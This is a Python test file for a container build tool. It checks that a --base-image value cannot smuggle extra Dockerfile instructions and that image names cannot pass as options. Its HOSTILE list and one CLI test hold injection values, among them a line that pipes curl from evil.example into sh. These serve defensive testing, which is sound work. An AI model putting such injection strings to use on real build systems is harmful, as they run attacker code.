"""A base image reference from the command line (``--base-image``) is one reference before it enters a Dockerfile.

``rebase_dockerfile`` writes it after ``FROM`` as is: ``debian:12\\nRUN ...`` used to add a RUN instruction.
"""

from __future__ import annotations

from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from builders import charliecloud
from builders.deployment import Deployment
from builders.errors import RenderError
from builders.image_build import prepare_build, rebase_dockerfile, save_deployment
from builders.render import render_artifacts
from cli import build_cmds

HOSTILE = [
    "debian:12\nRUN curl evil.example | sh",
    "debian:12\n",  # a trailing newline passed IMAGE_REF's `$`
    "debian:12\rRUN id",
    "debian:12 AS x\nRUN id",
    "debian:12\x00",
    "debian:12\tRUN",
    "",
    "debian:12" + "0" * 600,
]


@pytest.mark.parametrize("base", HOSTILE)
def test_rebase_refuses_anything_but_one_reference(base: str) -> None:
    with pytest.raises(RenderError) as err:
        rebase_dockerfile("FROM python:3.11-slim\nRUN true\n", base)
    assert len(err.value.lines) == 1 and "\n" not in err.value.lines[0]
    assert err.value.lines[0].startswith("--base-image: ") and len(err.value.lines[0]) < 300


@pytest.fixture
def out(tmp_path: Path) -> Path:
    render_artifacts(Deployment(app_name="demo", base_image="python:3.11-slim", run_argv=("true",)), tmp_path)
    return tmp_path


def test_charliecloud_build_without_deployment_json_writes_no_injected_line(out: Path) -> None:
    # the case: --engine charliecloud on a directory without deployment.json
    app = typer.Typer()
    app.callback()(lambda: None)
    build_cmds.register(app)
    result = CliRunner().invoke(app, ["build", str(out), "--engine", "charliecloud",
                                      "--base-image", "debian:12\nRUN touch /pwned"])
    assert result.exit_code == 4
    assert result.output.strip().splitlines() == [
        "error: --base-image: 'debian:12\\nRUN touch /pwned' is not an image reference like "
        "registry.example.org/team/app:tag"]
    assert not (out / "build" / "Dockerfile").exists()


@pytest.mark.parametrize("with_deployment", [False, True], ids=["rebase", "re-render"])
def test_prepare_build_refuses_a_trailing_newline_either_way(out: Path, with_deployment: bool) -> None:
    if with_deployment:
        save_deployment(Deployment(app_name="demo", base_image="python:3.11-slim", run_argv=("true",)), out)
    with pytest.raises(RenderError, match="--base-image"):
        prepare_build(out, base_image="debian:12\n")
    assert not (out / "build" / "Dockerfile").exists()


def test_a_deployment_with_a_trailing_newline_in_its_base_is_not_rendered(tmp_path: Path) -> None:
    with pytest.raises(RenderError, match="base_image"):
        render_artifacts(Deployment(app_name="demo", base_image="debian:12\n", run_argv=("true",)), tmp_path)


def test_good_references_still_rebase(out: Path) -> None:
    built = prepare_build(out, base_image=f"127.0.0.1:5000/site/python@sha256:{'a' * 64}").dockerfile
    assert f"\nFROM 127.0.0.1:5000/site/python@sha256:{'a' * 64} AS final\n" in built.read_text()


@pytest.mark.parametrize("name", ["-h", "--force", "x:1\nRUN id", "Upper/Case"])
def test_charliecloud_image_names_are_references_not_options(out: Path, name: str) -> None:
    # the name is a positional argument of ch-image import and ch-convert: "-h" would be read as an option
    with pytest.raises(charliecloud.CharliecloudError) as err:
        charliecloud.build(out, out / "Dockerfile", name)
    assert len(err.value.lines) == 1 and err.value.lines[0].startswith("--tag: ")
    with pytest.raises(charliecloud.CharliecloudError, match=r"^image name: "):
        charliecloud.import_image(out, name)
